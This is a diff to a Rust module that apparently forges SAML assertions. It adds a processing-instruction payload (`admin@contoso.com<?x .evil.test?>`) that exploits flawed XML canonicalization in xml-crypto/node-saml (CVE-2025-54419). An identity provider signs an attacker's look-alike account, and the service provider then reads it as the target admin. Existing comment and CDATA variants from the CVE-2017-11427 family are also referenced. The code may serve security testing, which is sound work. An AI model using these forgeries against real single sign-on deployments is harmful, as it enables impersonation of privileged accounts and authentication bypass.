@@ -1,7 +1,8 @@
 //! Text and canonicalization: the IdP signs the attacker's own look-alike account
 //! (`admin@contoso.com.evil.test`), then a comment or CDATA boundary is placed so that exclusive
 //! C14N (and so the signature) is unchanged while a consumer reading only the first text node
-//! sees the target (`admin@contoso.com`). The `normalise` edits sign a look-alike that only
+//! sees the target (`admin@contoso.com`); or a processing instruction that only a flawed
+//! canonicalizer writes as plain text. The `normalise` edits sign a look-alike that only
 //! an SP normalising identifiers (NFKC, nameprep, Unicode trimming) maps to the target.
 
 use crate::bytes::{splice, Doc};
@@ -84,6 +85,19 @@ fn comment(target: &str) -> String {
 
 fn cdata(target: &str) -> String {
     format!("<![CDATA[{target}]]>{LOOKALIKE_SUFFIX}")
+}
+
+/// `admin@contoso.com<?x .evil.test?>`: a canonicalizer that writes a processing instruction
+/// as its data alone (xml-crypto, under node-saml < 5.1.0) digests the look-alike the IdP
+/// signed, and a reader that drops processing instructions sees the target. Exclusive C14N
+/// keeps the instruction, so a careful SP finds the digest broken.
+fn processing_instruction(target: &str) -> String {
+    format!("{target}<?x {LOOKALIKE_SUFFIX}?>")
+}
+
+/// `processing_instruction` in NameID (CVE-2025-54419).
+pub fn pi_name_id(f: &Forge) -> Result<Forged, Skip> {
+    lookalike(f, Place::NameId, processing_instruction)
 }
 
 /// `admin@contoso.com<!---->.evil.test` in NameID (CVE-2017-11427 family).
